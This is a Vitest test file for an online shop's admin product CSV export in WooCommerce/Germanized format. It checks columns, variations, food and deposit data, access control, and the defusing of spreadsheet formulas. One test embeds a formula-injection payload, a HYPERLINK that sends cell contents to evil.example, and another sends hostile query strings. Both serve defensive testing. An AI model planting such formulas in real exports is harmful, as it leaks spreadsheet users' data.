import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { productCsvColumns } from '#app/domain/catalog/product-csv.rules.ts';
import {
  createAttribute,
  createCategory,
  createDeliveryTime,
  createDepositType,
  createProduct,
} from '#db/seed/factories.ts';
import { csvObjects, parseCsv } from '../support/csv.ts';
import { type SignedIn, signedInCustomer } from '../support/customers.ts';
import { TEN_KB } from '../support/hostile.ts';
import { type TestShop, startTestShop } from '../support/shop.ts';

let shop: TestShop;
let manager: SignedIn;
let customer: SignedIn;
const db = () => shop.database.db;

beforeAll(async () => {
  shop = await startTestShop();
  manager = await signedInCustomer(db(), { role: 'shop_manager' });
  customer = await signedInCustomer(db());
}, 120_000);
afterAll(async () => {
  await shop?.close();
});

const get = (path: string, cookie = manager.cookie, lang = 'en') =>
  fetch(shop.url + path, { headers: { cookie: `lang=${lang}; ${cookie}` }, redirect: 'manual' });

let counter = 0;
/** A category of its own per test, so each export holds only that test's products. */
async function ownCategory() {
  counter += 1;
  const parent = await createCategory(db(), {
    name: { de: `Kleidung ${counter}`, en: 'Clothing' },
  });
  return createCategory(db(), {
    name: { de: `Schuhe, Stiefel ${counter}`, en: 'Shoes' },
    parentId: parent.id,
  });
}

async function exported(query: string) {
  const res = await get(`/admin/products/export.csv?${query}`);
  expect(res.status).toBe(200);
  return res;
}

describe('product CSV export', () => {
  it('writes WooCommerce’s columns, a variable product followed by its variations, and the legal data', async () => {
    const category = await ownCategory();
    const delivery = await createDeliveryTime(db(), {
      label: { de: '3–5 Werktage', en: '3–5 working days' },
      minDays: 3,
      maxDays: 5,
    });
    const color = await createAttribute(db(), {
      slug: `farbe-${counter}`,
      name: { de: 'Farbe', en: 'Colour' },
      terms: [
        { slug: 'rot', name: { de: 'Rot', en: 'Red' } },
        { slug: 'blau', name: { de: 'Blau', en: 'Blue' } },
      ],
    });
    const sneaker = await createProduct(db(), {
      name: { de: 'Turnschuh', en: 'Sneaker' },
      sku: `SNEAKER-${counter}`,
      description: { de: 'Leicht.\n\nBequem.', en: 'Light.\n\nComfortable.' },
      regularPrice: 8990,
      categoryIds: [category.id],
      deliveryTimeId: delivery.id,
      attributes: [
        {
          attributeId: color.attribute.id,
          termIds: [color.termIds.rot!, color.termIds.blau!],
          usedForVariations: true,
        },
      ],
      variations: [
        {
          attributes: { [color.attribute.slug]: 'rot' },
          sku: `SNEAKER-${counter}-R`,
          manageStock: true,
          stockQuantity: 4,
        },
        {
          attributes: { [color.attribute.slug]: 'blau' },
          sku: `SNEAKER-${counter}-B`,
          salePrice: 6990,
        },
      ],
    });
    const res = await exported(`category=${category.id}`);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(
      /^attachment; filename="products-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    const bytes = new Uint8Array(await res.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder().decode(bytes);
    const [header] = parseCsv(text);
    expect(header).toEqual(productCsvColumns(1));
    expect(header!.slice(0, 5)).toEqual(['ID', 'Type', 'SKU', 'GTIN, UPC, EAN, or ISBN', 'Name']);
    const rows = csvObjects(text);
    expect(rows.map((r) => [r.Type, r.SKU])).toEqual([
      ['variable', `SNEAKER-${counter}`],
      ['variation', `SNEAKER-${counter}-R`],
      ['variation', `SNEAKER-${counter}-B`],
    ]);
    const [parent, red, blue] = rows as [
      Record<string, string>,
      Record<string, string>,
      Record<string, string>,
    ];
    expect(parent).toMatchObject({
      ID: String(sneaker.product.id),
      Name: 'Turnschuh',
      Published: '1',
      'Regular price': '89.90',
      Description: 'Leicht.\\n\\nBequem.',
      // The category's path from the top; a comma in a name is escaped as WooCommerce does.
      Categories: `Kleidung ${counter} > Schuhe\\, Stiefel ${counter}`,
      'Attribute 1 name': 'Farbe',
      'Attribute 1 value(s)': 'Rot, Blau',
      'Attribute 1 visible': '1',
      'Attribute 1 global': '1',
      'Delivery time': '3–5 Werktage',
      'Tax status': 'taxable',
      'Meta: _ladenzeile_name_en': 'Sneaker',
      'Meta: _ladenzeile_description_en': 'Light.\\n\\nComfortable.',
    });
    expect(red).toMatchObject({
      Parent: `SNEAKER-${counter}`,
      'Attribute 1 name': 'Farbe',
      'Attribute 1 value(s)': 'Rot',
      Stock: '4',
      'In stock?': '1',
    });
    expect(blue).toMatchObject({
      Parent: `SNEAKER-${counter}`,
      'Sale price': '69.90',
      Stock: 'parent',
    });
  });

  it('exports food, deposit and unit price data in Germanized’s columns', async () => {
    const category = await ownCategory();
    const deposit = await createDepositType(db(), {
      name: { de: `Mehrweg ${counter}`, en: 'Reusable' },
    });
    await createProduct(db(), {
      name: { de: 'Apfelsaft', en: 'Apple juice' },
      sku: `JUICE-${counter}`,
      regularPrice: 249,
      taxClass: 'reduced',
      categoryIds: [category.id],
      unit: 'l',
      productUnits: 1,
      unitBase: 1,
      depositTypeId: deposit.id,
      depositQuantity: 1,
      food: {
        nutrientReference: 'ml',
        nutrients: { energy_kj: 180, sugars: 10.2 },
        allergens: ['sulphites'],
        ingredients: { de: 'Apfelsaft', en: 'Apple juice' },
        nutriScore: 'C',
      },
    });
    const [row] = csvObjects(await (await exported(`category=${category.id}`)).text());
    expect(row).toMatchObject({
      'Tax class': 'reduced-rate',
      'Regular price': '2.49',
      Unit: 'l',
      'Unit base': '1',
      'Unit product': '1',
      'Deposit Type': `Mehrweg ${counter}`,
      'Deposit Quantity': '1',
      'Is food?': '1',
      Allergenic: 'sulphites',
      Ingredients: 'Apfelsaft',
      'Nutrient reference value slug': '100ml',
      'Nutri-Score': 'C',
      'Nutrients: energy_kj': '180',
      'Nutrients: sugars': '10.2',
      'Meta: _ladenzeile_ingredients_en': 'Apple juice',
    });
  });

  it('defuses formulas and keeps quotes and line breaks inside their cell', async () => {
    const category = await ownCategory();
    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Klick")';
    await createProduct(db(), {
      name: { de: formula, en: '+SUM(1,2)' },
      sku: `FORMULA-${counter}`,
      shortDescription: { de: 'Zeile 1\nZeile "2"' },
      categoryIds: [category.id],
    });
    const text = await (await exported(`category=${category.id}`)).text();
    const [row] = csvObjects(text);
    expect(row!.Name).toBe(`'${formula}`);
    expect(row!['Meta: _ladenzeile_name_en']).toBe(`'+SUM(1,2)`);
    expect(row!['Short description']).toBe('Zeile 1\\nZeile "2"');
    // No record starts with a character a spreadsheet would run.
    for (const record of parseCsv(text)) {
      for (const cell of record) expect(cell).not.toMatch(/^[=+@\t\r]/);
    }
  });

  it('filters by type and status; unknown or hostile filters export everything', async () => {
    const category = await ownCategory();
    await createProduct(db(), {
      sku: `DRAFT-${counter}`,
      status: 'draft',
      categoryIds: [category.id],
    });
    await createProduct(db(), { sku: `LIVE-${counter}`, categoryIds: [category.id] });
    const skus = async (query: string) =>
      csvObjects(await (await exported(`category=${category.id}&${query}`)).text()).map(
        (r) => r.SKU,
      );
    expect(await skus('status=draft')).toEqual([`DRAFT-${counter}`]);
    expect(await skus('status=publish')).toEqual([`LIVE-${counter}`]);
    expect(await skus('type=variable')).toEqual([]);
    const everything = [`DRAFT-${counter}`, `LIVE-${counter}`];
    for (const hostile of [
      'status=trash',
      'type[]=simple',
      'status=draft&status=publish',
      `type=${TEN_KB.slice(0, 2000)}`,
    ]) {
      expect(await skus(hostile)).toEqual(everything);
    }
    // A NUL byte in the address is refused before any page runs.
    expect(
      (await get(`/admin/products/export.csv?category=${category.id}&status=dra%00ft`)).status,
    ).toBe(400);
    // A category that is no number is no filter: the whole catalogue, this test's products in it.
    const all = csvObjects(await (await exported('category=abc')).text()).map((r) => r.SKU);
    expect(all).toEqual(expect.arrayContaining(everything));
  });

  it('is staff only: the 404 page for guests and customers, the page with its form for managers', async () => {
    for (const cookie of ['', customer.cookie]) {
      expect((await get('/admin/products/export.csv', cookie)).status).toBe(404);
      expect((await get('/admin/products/export', cookie)).status).toBe(404);
    }
    const page = await (await get('/admin/products/export')).text();
    expect(page).toContain('Export products');
    expect(page).toContain('action="/admin/products/export.csv"');
    expect(page).toContain('Download CSV');
    const german = await (await get('/admin/products/export', manager.cookie, 'de')).text();
    expect(german).toContain('Produkte exportieren');
    expect(german).toContain('CSV herunterladen');
  });
});
